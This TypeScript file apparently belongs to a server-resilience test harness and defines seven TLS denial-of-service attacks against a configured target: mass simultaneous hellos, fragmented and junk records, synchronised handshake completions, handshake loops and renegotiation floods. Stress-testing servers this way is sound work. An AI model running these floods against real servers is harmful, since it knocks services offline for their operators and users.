import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { setTimeout as wait } from 'node:timers/promises';
import { type ConnectionOptions, connect as connectTls, type TLSSocket } from 'node:tls';
import { captureHello } from '../support/tls-hello.ts';
import type { Door } from './target.ts';

type Attack = (door: Door) => Promise<void>;

/** Nearly as many as an address may have. */
const CROWD = 480;
/** So long the attacker leaves its sockets open after all have said the same. */
const PATIENCE_MS = 300;

/** What is sent to a server that speaks TLS by itself, with an RSA key, before it has read a request. */
export const TLS_ATTACKS: Readonly<Record<string, Attack>> = {
  'TLS: hellos of 480 sockets at once': crowd((socket, hello) => void socket.write(hello)),
  'TLS: hellos in pieces, at once': crowd((socket, hello) => {
    socket.setNoDelay().write(hello.subarray(0, 5));
    for (let at = 5; at < hello.length; at += 16) socket.write(hello.subarray(at, at + 16));
  }),
  'TLS: records that are no hello': crowd((socket) => void socket.write('x'.repeat(16_384))),
  'TLS: second halves of handshakes at once': secondHalves,
  'TLS: handshakes, one after the other': handshakes({}),
  'TLS: handshakes that are refused': handshakes({ ecdhCurve: 'P-521' }),
  'TLS: handshakes within a connection': renegotiations,
};

function socketTo({ url, address }: Door): Socket {
  const { hostname, port } = new URL(url);
  return connect({ host: hostname, port: Number(port), localAddress: address }).on('error', () => {});
}

function secureTo(door: Door, options: ConnectionOptions): TLSSocket {
  const socket = connectTls({ socket: socketTo(door), rejectUnauthorized: false, ...options });
  return socket.on('error', () => {}).resume();
}

/** Opens many sockets, has all of them say the same at one moment, and begins again. */
function crowd(say: (socket: Socket, hello: Buffer) => void): Attack {
  return async (door) => {
    const hello = await captureHello();
    for (;;) {
      const sockets = Array.from({ length: CROWD }, () => socketTo(door).resume());
      await Promise.all(sockets.map((socket) => Promise.race([once(socket, 'connect'), once(socket, 'close')])));
      for (const socket of sockets) say(socket, hello);
      await wait(PATIENCE_MS);
      for (const socket of sockets) socket.resetAndDestroy();
    }
  };
}

/** Keeps back what many handshakes end with until all have come so far, and sends it at one moment. */
async function secondHalves(door: Door): Promise<void> {
  for (;;) {
    const releases: (() => void)[] = [];
    const clients = Array.from({ length: CROWD }, () => {
      const wire = socketTo(door);
      const { held, release } = hold(wire);
      releases.push(release);
      connectTls({ socket: held, rejectUnauthorized: false })
        .on('error', () => {})
        .resume();
      return wire;
    });
    await wait(PATIENCE_MS);
    for (const release of releases) release();
    await wait(PATIENCE_MS);
    for (const wire of clients) wire.resetAndDestroy();
  }
}

/** A way over a socket that sends the first thing written at once, and everything else when it is told to. */
function hold(wire: Socket): { held: Duplex; release: () => void } {
  let isFirst = true;
  let isReleased = false;
  const kept: (() => void)[] = [];
  const held = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      const send = () => void wire.write(chunk, () => done());
      if (isFirst || isReleased) send();
      else kept.push(send);
      isFirst = false;
    },
  });
  held.on('error', () => {});
  wire.on('data', (chunk) => void held.push(chunk)).on('close', () => held.destroy());
  return {
    held,
    release() {
      isReleased = true;
      for (const send of kept.splice(0)) send();
    },
  };
}

/** Shakes hands over sixteen sockets at a time, and leaves when that is done. */
function handshakes(options: ConnectionOptions): Attack {
  return async (door) => {
    const shake = async (): Promise<never> => {
      for (;;) {
        const socket = secureTo(door, options);
        const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
        socket.on('secureConnect', () => socket.destroy());
        await closed;
        await wait(1);
      }
    };
    await Promise.all(Array.from({ length: 16 }, shake));
  };
}

/** Asks for one handshake after the other within connections of TLS 1.2. */
async function renegotiations(door: Door): Promise<void> {
  const ask = async (): Promise<never> => {
    for (;;) {
      const socket = secureTo(door, { maxVersion: 'TLSv1.2' });
      const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
      const again = () => void (socket.destroyed || socket.renegotiate({ rejectUnauthorized: false }, again));
      socket.on('secureConnect', again);
      await closed;
      await wait(1);
    }
  };
  await Promise.all(Array.from({ length: 16 }, ask));
}
